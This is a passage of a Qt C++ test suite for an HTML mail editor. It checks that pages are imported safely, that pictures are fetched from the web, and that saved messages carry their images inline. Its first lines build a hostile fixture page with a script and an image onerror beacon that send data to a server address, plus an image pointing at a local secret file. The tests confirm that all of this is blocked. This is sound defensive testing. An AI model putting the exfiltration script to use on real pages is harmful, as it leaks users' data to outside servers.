                  ".then(function (t) { new Image().src = '" + to + "/?d=' + encodeURIComponent(t); });</script>"
                  "</head><body><p>Imported</p>"
                  "<img src=\"missing.png\" onerror=\"new Image().src='" + to + "/?e=1'\">"
                  "<img src=\"" + secret.toEncoded() + "\"></body></html>");

        editor->importHtmlFile(outside + "newsletter.htm");
        // The import ends on N.htm (holding the same head, refresh and all).
        QTRY_VERIFY_WITH_TIMEOUT(editor->view()->url() == QUrl::fromLocalFile(dir() + "p.htm") && editor->documentPresent(),
                                 20000);
        // The picture outside was asked for and refused while the page was
        // shown (the import then copied it in), and so was N.htm's refresh.
        QVERIFY(blocked.contains(QVariantList{secret}));
        QTRY_VERIFY_WITH_TIMEOUT(blocked.mid(blockedBeforeLastNavigation).contains(QVariantList{refresh}), 10000);

        // The editor still edits, inserts and saves in that document.
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->runCommand("selectAll");
        QVERIFY(changed.wait(10000));
        editor->runCommand("Bold");
        QVERIFY(changed.wait(10000));
        QVERIFY2(bodyOf(editor->source()).contains("<b>Imported</b>"), qPrintable(editor->source()));
        pageScript(editor, "document.getSelection().collapseToEnd(); true");
        editor->insertMergeField("[Column#1]");
        QVERIFY(changed.wait(10000));
        writeFile(dir() + "img/logo.gif", kBlueGif);
        QVERIFY(editor->insertPicture(dir() + "img/logo.gif"));
        QVERIFY(changed.wait(10000));
        QTRY_COMPARE_WITH_TIMEOUT(pageScript(editor, "document.images[document.images.length - 1].naturalWidth").toInt(), 1,
                                  10000);
        QVERIFY(editor->writeHtml());
        const QString saved = QString::fromUtf8(readFile(dir() + "p.htm"));
        QVERIFY2(saved.contains("[Column#1]") && saved.contains("src=\"p/logo.gif\""),
                 qPrintable(saved));

        // Nothing of the page's own ran, and nothing reached the server.
        QVERIFY2(!saved.contains("data-ran=\"yes\""), qPrintable(saved));
        QVERIFY(!pageScript(editor, "1", QWebEngineScript::MainWorld).isValid());
        QCOMPARE(server.connections, 0);
        QCOMPARE(editor->view()->url(), QUrl::fromLocalFile(dir() + "p.htm"));
    }

    void picturesFetchedFromTheWeb()
    {
        PictureServer server;
        openProject("Text", false);
        THtmlEditor *editor = showHtmlPage();
        editor->setDownloadTimeLimit(1500);
        QSignalSpy fetched(editor, &THtmlEditor::picturesFetched);
        QSignalSpy changed(editor, &THtmlEditor::changed);

        // Inserting: the picture is fetched into the picture folder first.
        QVERIFY(editor->insertPicture(server.address("img/ok.gif")));
        QVERIFY(changed.wait(10000));
        QCOMPARE(fetched.size(), 1);
        QCOMPARE(fetched.at(0), (QVariantList{1, 0}));
        QCOMPARE(readFile(dir() + "p/ok.gif"), kRedGif);
        QVERIFY2(editor->source().contains("src=\"p/ok.gif\""), qPrintable(editor->source()));

        // A failed download inserts nothing and leaves an earlier copy of
        // that name alone: not found, and a server that never answers.
        writeFile(dir() + "p/missing.gif", kBlueGif);
        const QString before = editor->source();
        for (const QString &path : {QStringLiteral("missing.gif"), QStringLiteral("hang.gif")}) {
            changed.clear();
            QVERIFY(editor->insertPicture(server.address(path)));
            QVERIFY(fetched.wait(10000));
            QCOMPARE(fetched.last(), (QVariantList{0, 1}));
        }
        QCOMPARE(readFile(dir() + "p/missing.gif"), kBlueGif);
        QVERIFY(!QFileInfo::exists(dir() + "p/hang.gif"));
        QCOMPARE(changed.size(), 0);
        QCOMPARE(editor->source(), before);
        QCOMPARE(QDir(dir() + "p").entryList(QDir::Files), (QStringList{"missing.gif", "ok.gif"}));

        // Importing: fetched pictures become local, the others keep their
        // addresses, and the import does not wait for the silent server.
        const QString page = dir() + "site/page.htm";
        writeFile(page, "<html><body><p>Imported</p><img src=\"" + server.address("pics/ok.gif").toUtf8()
                          + "\"><img src=\"" + server.address("gone.gif").toUtf8() + "\"><img src=\""
                          + server.address("hang.gif").toUtf8() + "\"><img src=\""
                          + server.address("pics/ok.gif").toUtf8() + "\"></body></html>");
        QFile::remove(dir() + "p/ok.gif");
        fetched.clear();
        editor->importHtmlFile(page);
        QVERIFY(fetched.wait(20000));
        QCOMPARE(fetched.at(0), (QVariantList{1, 2})); // the same address is fetched once
        QTRY_COMPARE_WITH_TIMEOUT(editor->view()->url(), QUrl::fromLocalFile(dir() + "p.htm"), 10000);
        // Editable again although the silent server still holds a picture.
        QTRY_VERIFY_WITH_TIMEOUT(editor->documentPresent(), 10000);
        QCOMPARE(readFile(dir() + "p/ok.gif"), kRedGif);
        const QString saved = QString::fromUtf8(readFile(dir() + "p.htm"));
        QCOMPARE(saved.count("src=\"p/ok.gif\""), 2);
        QVERIFY2(saved.contains(server.address("gone.gif")) && saved.contains(server.address("hang.gif")),
                 qPrintable(saved));
    }

    void savedHtmlReopensAndIsSentInline()
    {
        openProject("Dear [Column#2]", false);
        THtmlEditor *editor = showHtmlPage();
        writeFile(dir() + "img/logo.gif", kRedGif);
        QSignalSpy changed(editor, &THtmlEditor::changed);
        editor->runCommand("selectAll");
        QVERIFY(changed.wait(10000));
        editor->runCommand("Italic");
        QVERIFY(changed.wait(10000));
        pageScript(editor, "document.getSelection().collapseToEnd(); true");
        QVERIFY(editor->insertPicture(dir() + "img/logo.gif"));
        QVERIFY(changed.wait(10000));
        const QString body = bodyOf(editor->source());

        QVERIFY(m_form->saveProject(false));
        QVERIFY(QFileInfo::exists(dir() + "p.htm"));
        QVERIFY(!editor->htmlChanged());
        QVERIFY(!m_form->htmlBodyChanged());

        // Reopened, the body is the same.
        m_form.reset();
        THtmlEditor *reopened = openProject("Dear [Column#2]", true, readFile(dir() + "p.htm"), true);
        QVERIFY(reopened->documentPresent());
        QCOMPARE(bodyOf(reopened->source()), body);
        QVERIFY(!reopened->htmlChanged());

        // The mailing sends it with the picture inline; Python's email
        // package judges the message.
        MessagePreparer preparer(m_form->project(), tAccountObj{});
        const PreparedMessage m = preparer.prepare(0);
        const QString file = dir() + "message.eml";
        writeFile(file, MessageFileBytes(m.withRecipient()));
        const MessageDescriptions described = describeMessages({file});
        QVERIFY2(described.error.isEmpty(), qPrintable(described.error));
        const QJsonObject r = described.messages.at(0).toObject();
        QJsonArray images;
        for (const QJsonValue &part : r["parts"].toArray()) {
            if (part["type"].toString().startsWith("image/"))
                images.append(part);
        }
        QCOMPARE(images.size(), 1);
        const QJsonObject image = images.at(0).toObject();
        QCOMPARE(image["type"].toString(), QStringLiteral("image/gif"));
        QCOMPARE(image["size"].toInt(), kRedGif.size());
        QCOMPARE(image["sha256"].toString().toLatin1(), QCryptographicHash::hash(kRedGif, QCryptographicHash::Sha256).toHex());
        QString cid = image["cid"].toString();
        cid = cid.mid(1, cid.size() - 2); // without its angle brackets
        const QString html = r["html"].toString();
        QVERIFY2(html.contains("src=\"cid:" + cid + "\""), qPrintable(html));
        QVERIFY2(html.contains("<i>Dear Anna"), qPrintable(html)); // merged, formatting kept
        QCOMPARE(r["defects"].toArray(), QJsonArray());
    }
};

QTEST_MAIN(TestHtmlEditor)
#include "tst_htmleditor.moc"
